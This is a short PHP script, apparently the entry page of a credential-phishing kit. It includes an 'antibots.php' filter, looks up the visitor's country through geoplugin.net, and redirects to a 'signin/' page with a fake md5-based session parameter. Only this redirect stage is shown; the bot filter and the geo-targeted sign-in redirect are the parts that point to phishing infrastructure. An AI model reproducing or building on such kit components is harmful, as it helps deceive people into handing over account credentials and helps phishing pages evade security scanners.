<?php
session_start();
include './antibots.php';
$ip = $_SERVER['REMOTE_ADDR'];
$geo = @json_decode(file_get_contents('http://www.geoplugin.net/json.gp?ip=' . $ip));
$_SESSION['country'] = $geo ? $geo->geoplugin_countryCode : 'US';
$lang = in_array($_SESSION['country'], ['FR', 'BE', 'CA']) ? 'fr' : 'en';
header('Location: signin/?lang=' . $lang . '&session=' . md5(microtime()));
